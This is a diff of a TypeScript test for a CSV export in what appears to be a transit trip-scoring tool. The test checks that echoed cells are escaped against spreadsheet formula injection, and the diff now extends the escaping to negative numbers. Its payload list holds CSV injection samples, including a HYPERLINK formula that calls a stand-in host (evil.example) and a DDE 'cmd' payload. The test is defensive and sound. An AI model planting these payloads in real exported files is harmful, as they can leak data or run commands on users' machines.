@@ -61,7 +61,7 @@ test('a row names every problem it has, route, direction and time, as the web fo
   assert.ok('error' in tripFromRow({ route: '', direction: '', time: '' }));
 });
 
-test('echoed cells a spreadsheet would run as formulas are neutralised; plain numbers and times are left alone', async () => {
+test('echoed cells a spreadsheet could run as formulas are neutralised, negative numbers too; times are left alone', async () => {
   const payloads = ['=HYPERLINK("http://evil.example/?q=1","open")', '=1+2', '+504', '@SUM(1)', '\t=1+2', ' =1+2', "-2+3+cmd|' /C calc'!A0", '-1+1'];
   const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;
   const text = [
@@ -74,10 +74,9 @@ test('echoed cells a spreadsheet would run as formulas are neutralised; plain nu
   const { out, rows } = await scoreText(text);
   const records = parse(out) as string[][];
   const triggers = /^[=+\-@\t\r]|^\s+[=+\-@]/;
-  const plainNumber = /^-\d+(\.\d+)?$/;
   for (const record of records) {
     for (const cell of record) {
-      assert.ok(!triggers.test(cell) || plainNumber.test(cell), `cell ${JSON.stringify(cell)} would be a formula`);
+      assert.ok(!triggers.test(cell), `cell ${JSON.stringify(cell)} would be a formula`);
     }
   }
   assert.equal(records[0][5], "'=cmd", 'the header is echoed too');
@@ -89,9 +88,9 @@ test('echoed cells a spreadsheet would run as formulas are neutralised; plain nu
   const plain = rows.find((r) => r.note === 'plain');
   assert.equal(plain?.route, "'=1+2");
   assert.match(plain?.error ?? '', /^route: /);
-  // Plain numbers stay numbers (a longitude, -504): no spreadsheet runs them and scripts read them.
-  const minus = rows.find((r) => r.note === '-504');
-  assert.equal(minus?.lon, '-79.3832');
+  // A negative number is prefixed like any cell starting with "-" (OWASP); the trip is still scored.
+  const minus = rows.find((r) => r.note === "'-504");
+  assert.equal(minus?.lon, "'-79.3832");
   assert.equal(minus?.time, '2026-11-25T08:00:00-05:00');
   assert.equal(minus?.error, '');
   assert.match(minus?.probability ?? '', /^0\.\d{6}$/);
